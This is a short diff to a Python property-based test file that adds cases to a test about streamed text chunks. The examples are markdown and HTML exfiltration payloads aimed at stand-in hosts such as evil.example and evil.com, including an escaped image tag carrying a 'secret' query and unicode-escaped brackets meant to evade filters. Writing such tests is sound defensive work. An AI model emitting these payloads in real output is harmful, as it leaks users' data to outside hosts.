@@ -31,6 +31,8 @@ def streamed(text: str, sizes: list[int]) -> str:
 @example("x ![a](https://evil.example) y", [1] * 30)
 @example("https&colon;//evil.example", [5, 4, 3, 2, 1])
 @example('{"a": "\\u0021[x](https://evil.example)"}', [1] * 30)
+@example('{"a": "\\u003cimg src=//evil.com/p?secret \\u003e and more, if x > 3"}', [1] * 60)
+@example('{"a": "\\u005bx](https://evil.example) y"}', [4] * 30)
 @example("a `b` ``c [x](//e)", [1] * 30)
 @example("[1](https://evil.example) and [2] so", [3, 1] * 9)
 def test_the_pieces_shown_are_the_whole_answer_limited(text: str, sizes: list[int]) -> None:
